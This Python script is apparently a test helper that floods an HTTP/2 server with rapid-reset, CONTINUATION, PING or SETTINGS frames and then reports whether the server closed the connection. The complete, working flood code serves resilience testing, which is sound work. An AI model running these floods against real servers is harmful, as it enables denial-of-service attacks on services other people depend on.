"""HTTP/2 floods against a server (python3-h2), for the flood tests:
h2_flood.py HOST PORT KIND SECONDS, KIND one of rapid_reset, continuation,
ping, settings. Floods for at most SECONDS, then prints how it ended:
`closed` (the server closed the connection or sent GOAWAY) or `open`, and
the frames sent."""
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.frame_buffer
import hyperframe.frame

host, port, kind, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
sock = socket.create_connection((host, port))
sock.settimeout(0.001)
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
headers = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", host)]


def closed_by_peer():
    try:
        data = sock.recv(65536)
    except socket.timeout:
        return False
    except OSError:
        return True
    if not data:
        return True
    try:
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                return True
    except h2.exceptions.ProtocolError:
        return True
    return False


sent = 0
deadline = time.time() + seconds
end = "open"
stream = 1
try:
    while time.time() < deadline:
        if kind == "rapid_reset":
            conn.send_headers(stream, headers)
            conn.reset_stream(stream)
            sock.sendall(conn.data_to_send())
            stream += 2
        elif kind == "continuation":
            if sent == 0:
                frame = hyperframe.frame.HeadersFrame(1)
                frame.data = conn.encoder.encode(headers)
                sock.sendall(frame.serialize())
            frame = hyperframe.frame.ContinuationFrame(1)
            frame.data = conn.encoder.encode([("x-flood-%d" % sent, "v" * 1000)])
            sock.sendall(frame.serialize())
        elif kind == "ping":
            sock.sendall(hyperframe.frame.PingFrame(0, opaque_data=b"12345678").serialize())
        elif kind == "settings":
            frame = hyperframe.frame.SettingsFrame(0)
            frame.settings = {hyperframe.frame.SettingsFrame.MAX_CONCURRENT_STREAMS: 100}
            sock.sendall(frame.serialize())
        else:
            raise SystemExit("unknown kind " + kind)
        sent += 1
        if sent % 100 == 0 and closed_by_peer():
            end = "closed"
            break
except (BrokenPipeError, ConnectionResetError, socket.timeout, OSError):
    end = "closed"
print(end, sent, flush=True)
